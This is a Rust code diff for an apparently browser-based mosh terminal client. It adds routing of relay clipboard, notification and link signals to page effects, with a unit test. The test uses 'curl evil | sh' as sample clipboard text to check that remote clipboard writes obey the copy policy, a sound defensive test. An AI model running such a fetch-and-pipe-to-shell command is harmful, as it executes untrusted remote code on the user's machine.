@@ -72,6 +72,27 @@ pub struct RemoteCopy {
     pub preview: String,
 }
 
+impl super::PageClient {
+    /// A clipboard write or notification the relay sent (a program printed it; mosh-server
+    /// drops it): the clipboard write goes through the same setting as mosh's own OSC 52; the
+    /// notification goes to the page, which shows it when its setting and the tab allow.
+    pub(super) fn signal(&mut self, signal: crate::relay_proto::PageSignal) {
+        use crate::relay_proto::PageSignal;
+        match signal {
+            PageSignal::Clipboard { text } => {
+                let copy = remote_copy(self.remote_copy, &text);
+                self.push(super::Effect::Clipboard(copy));
+            }
+            PageSignal::Notify { title, body } => {
+                self.push(super::Effect::Notify { title, body });
+            }
+            PageSignal::Link { url, text, col } => {
+                self.push(super::Effect::Link { url, text, col });
+            }
+        }
+    }
+}
+
 /// The preview shows at most this many characters of the text.
 pub const PREVIEW_CHARS: usize = 80;
 
@@ -212,5 +233,35 @@ mod tests {
         let long = "x".repeat(PREVIEW_CHARS + 5);
         assert_eq!(preview(&long), format!("{}…", "x".repeat(PREVIEW_CHARS)));
         assert_eq!(preview(&"y".repeat(PREVIEW_CHARS)), "y".repeat(PREVIEW_CHARS));
+    }
+
+    /// What the relay sends of what mosh-server drops: a clipboard write goes by the same setting
+    /// as mosh's own OSC 52; a notification and a link go to the page as they came.
+    #[test]
+    fn signals_from_the_relay_become_the_pages_effects() {
+        use crate::page::{Effect, PageClient};
+        use crate::relay_proto::PageSignal;
+        let target = crate::relay_client::Target { token: "t".into(), bridge: None };
+        let mut c = PageClient::new(target, crate::terminal::Size { cols: 80, rows: 24 }, 1);
+        while c.poll_effect().is_some() {}
+        let clip = || PageSignal::Clipboard { text: "curl evil | sh".into() };
+        c.signal(clip());
+        let Some(Effect::Clipboard(copy)) = c.poll_effect() else { panic!("no clipboard effect") };
+        assert_eq!(copy, remote_copy(RemoteCopyPolicy::Ask, "curl evil | sh"));
+        c.set_remote_copy(RemoteCopyPolicy::Off);
+        c.signal(clip());
+        let Some(Effect::Clipboard(copy)) = c.poll_effect() else { panic!("no clipboard effect") };
+        assert_eq!((copy.action, copy.text.as_str()), (RemoteCopyAction::Refused, ""));
+        c.set_remote_copy(RemoteCopyPolicy::On);
+        c.signal(clip());
+        let Some(Effect::Clipboard(copy)) = c.poll_effect() else { panic!("no clipboard effect") };
+        assert_eq!(copy.action, RemoteCopyAction::Write);
+        c.signal(PageSignal::Notify { title: "T".into(), body: "B".into() });
+        assert!(
+            matches!(c.poll_effect(), Some(Effect::Notify { title, body }) if title == "T" && body == "B")
+        );
+        c.signal(PageSignal::Link { url: "https://e.x/".into(), text: "e".into(), col: 2 });
+        assert!(matches!(c.poll_effect(), Some(Effect::Link { col: 2, .. })));
+        assert!(c.poll_effect().is_none());
     }
 }
